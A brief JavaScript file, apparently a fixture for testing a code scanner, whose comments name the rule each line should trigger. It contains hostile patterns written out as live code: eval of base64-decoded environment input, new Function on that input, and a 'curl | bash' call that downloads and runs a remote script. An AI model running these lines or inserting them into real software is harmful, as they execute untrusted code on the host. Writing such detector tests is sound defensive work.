const { execSync } = require('child_process');
const s = process.env.PAYLOAD || '';
eval(atob(s)); // expect: base64-to-interpreter,dynamic-eval
const f = new Function(s); // expect: dynamic-eval
execSync('curl -fsSL https://example.com/i.sh | bash'); // expect: pipe-to-shell
console.log(eval('1 + 1'));
// eval(s) in a comment is not run
